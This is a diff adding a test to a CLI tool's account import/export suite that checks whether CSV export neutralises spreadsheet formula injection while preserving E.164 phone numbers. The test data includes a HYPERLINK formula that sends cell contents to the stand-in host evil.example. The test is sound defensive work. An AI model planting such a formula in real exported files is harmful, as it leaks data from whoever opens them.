@@ -277,4 +277,46 @@ describe('keyhold account export', () => {
       displayName: 'Dave\r\nthe Second',
     })
   })
+
+  it('S28: neutralises cells that would run as formulas, keeps E.164 phones, and imports them back unchanged', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    const source = [
+      header,
+      `oscar,"${hyperlink.replaceAll('"', '""')}",,+44 20 7946 0959,user`,
+      'pia,@SUM(1+1),-pia@example.org,,user',
+      // As a spreadsheet saves a cell it shows as text: the apostrophe is not part of the name.
+      "quinn,'=1+1,,,user",
+    ].join('\r\n')
+    expect(okJson(await cli(['account', 'import', file('formulas.csv', `${source}\r\n`), '--json']))).toMatchObject({
+      imported: 3,
+    })
+    expect(okJson(await cli(['account', 'show', 'oscar', '--json']))).toMatchObject({ displayName: hyperlink })
+    expect(okJson(await cli(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })
+
+    const csvFile = join(temp.path, 'formulas-out.csv')
+    okJson(await cli(['account', 'export', csvFile, '--json']))
+    const csv = readFileSync(csvFile, 'utf8')
+    expect(csv).toContain(`oscar,"'${hyperlink.replaceAll('"', '""')}",,+442079460959,user\r\n`)
+    expect(csv).toContain("pia,'@SUM(1+1),'-pia@example.org,,user\r\n")
+    expect(csv).toContain("quinn,'=1+1,,,user\r\n")
+    // No cell of the file starts like a formula, unless it is a phone number in E.164.
+    for (const line of csv.split('\r\n')) {
+      for (const cell of line.split(',')) expect(/^"?[=+\-@\t\r]/.test(cell) && !/^\+\d{7,15}$/.test(cell)).toBe(false)
+    }
+
+    const other = cliFor(join(temp.path, 'formulas-other'))
+    expect((await other(['init', '--admin', 'root'], { input: `${strong}\n` })).code).toBe(0)
+    const rows = csv.split('\r\n').filter((line) => /^(oscar|pia|quinn),/.test(line))
+    const back = file('formulas-back.csv', [header, ...rows, ''].join('\r\n'))
+    expect(okJson(await other(['account', 'import', back, '--json']))).toMatchObject({ imported: 3 })
+    expect(okJson(await other(['account', 'show', 'oscar', '--json']))).toMatchObject({
+      displayName: hyperlink,
+      phone: '+442079460959',
+    })
+    expect(okJson(await other(['account', 'show', 'pia', '--json']))).toMatchObject({
+      displayName: '@SUM(1+1)',
+      email: '-pia@example.org',
+    })
+    expect(okJson(await other(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })
+  })
 })
